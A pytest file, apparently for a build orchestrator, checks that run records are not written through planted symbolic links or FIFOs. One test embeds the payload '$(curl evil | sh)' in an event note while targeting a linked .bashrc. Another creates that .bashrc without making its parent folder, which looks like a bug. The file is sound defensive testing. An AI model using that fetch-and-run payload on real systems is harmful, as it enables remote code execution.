"""A run folder whose record names were made links: the host writes none of them through.

A build's run folder holds its records beside the workspace; anything that could plant a
link there (a build sandboxed with a wider folder, an improve trial, whose whole home is
its own) must not turn the host's next record into a write elsewhere.
"""

from __future__ import annotations

import os

import pytest

from orchestrator.loop.runs import Run, RunSummary, TaskRecord, new_run_id
from orchestrator.sandbox.files import UnsafeFile


def a_run(tmp_path) -> Run:
    run_id = new_run_id()
    record = TaskRecord(run_id=run_id, task="t", cadillac_version="0", config={})
    return Run.create(tmp_path / "runs", record)


def test_a_summary_and_its_old_temporary_name_made_links_write_nothing_outside(tmp_path):
    run = a_run(tmp_path)
    outside = tmp_path / "outside.json"
    outside.write_text("keep\n")
    run.summary_path.symlink_to(outside)
    (run.dir / "summary.json.tmp").symlink_to(outside)  # the name the writer used to use
    run.save_summary(RunSummary(run_id=run.id, task="t"))
    assert outside.read_text() == "keep\n"
    assert not run.summary_path.is_symlink() and run.summary().run_id == run.id


def test_a_task_record_rewritten_through_a_link_writes_nothing_outside(tmp_path):
    run = a_run(tmp_path)
    outside = tmp_path / "outside.json"
    outside.write_text("keep\n")
    (run.dir / "task.json.tmp").symlink_to(outside)
    run.save_task(run.task())
    assert outside.read_text() == "keep\n"


def test_events_linked_to_a_shell_start_up_file_are_refused(tmp_path):
    run = a_run(tmp_path)
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.write_text("# the user's shell\n")
    run.events_path.symlink_to(bashrc)
    with pytest.raises(UnsafeFile, match="symbolic link"):
        run.event("phase_started", phase="plan", note="$(curl evil | sh)")
    assert bashrc.read_text() == "# the user's shell\n"


@pytest.mark.timeout(20)
def test_events_at_a_fifo_are_refused_without_waiting_for_a_reader(tmp_path):
    run = a_run(tmp_path)
    os.mkfifo(run.events_path)
    with pytest.raises(UnsafeFile, match="FIFO"):
        run.event("phase_started", phase="plan")
